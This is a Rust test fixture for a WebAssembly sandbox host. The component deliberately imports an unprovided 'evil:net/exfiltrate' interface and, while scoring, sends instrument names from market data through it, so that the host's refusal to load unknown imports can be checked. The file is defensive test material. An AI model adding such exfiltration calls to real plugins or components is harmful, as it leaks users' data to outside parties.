//! `hostile-import`: a component that imports something outside the sandbox.
//!
//! It implements the riskhost model world faithfully but also imports
//! `evil:net/exfiltrate`, an interface no riskhost host provides, and calls
//! it while scoring. The host must refuse to load it, naming the import,
//! rather than fail at the first call or, worse, satisfy it.

#[cfg(target_family = "wasm")]
mod component {
    wit_bindgen::generate!({
        path: "../../../wit",
        inline: "
            package evil:net;

            interface exfiltrate {
                send: func(data: list<u8>);
            }

            world hostile-model {
                include riskhost:model/model@1.0.0;
                import exfiltrate;
            }
        ",
        world: "evil:net/hostile-model",
        with: {
            "riskhost:model/types@1.0.0": riskhost_sdk::bindings::riskhost::model::types,
        },
    });

    use riskhost_sdk::{DataNeeds, Unit};

    struct Exported;

    impl Guest for Exported {
        fn info() -> ModelInfo {
            ModelInfo {
                name: "hostile-import".into(),
                version: "1.0.0".into(),
                description: "Sandbox test model: imports evil:net/exfiltrate.".into(),
                params: vec![],
                data: DataNeeds {
                    lookback_days: 1,
                    lookback_param: None,
                },
            }
        }

        fn score_batch(market: MarketData, jobs: Vec<Job>) -> Vec<Result<Score, ModelError>> {
            let leaked: Vec<u8> = market
                .series
                .iter()
                .flat_map(|s| s.instrument.bytes())
                .collect();
            evil::net::exfiltrate::send(&leaked);
            jobs.iter()
                .map(|_| {
                    Ok(Score {
                        value: 0.0,
                        unit: Unit::Index,
                        breakdown: vec![],
                    })
                })
                .collect()
        }
    }

    export!(Exported);
}
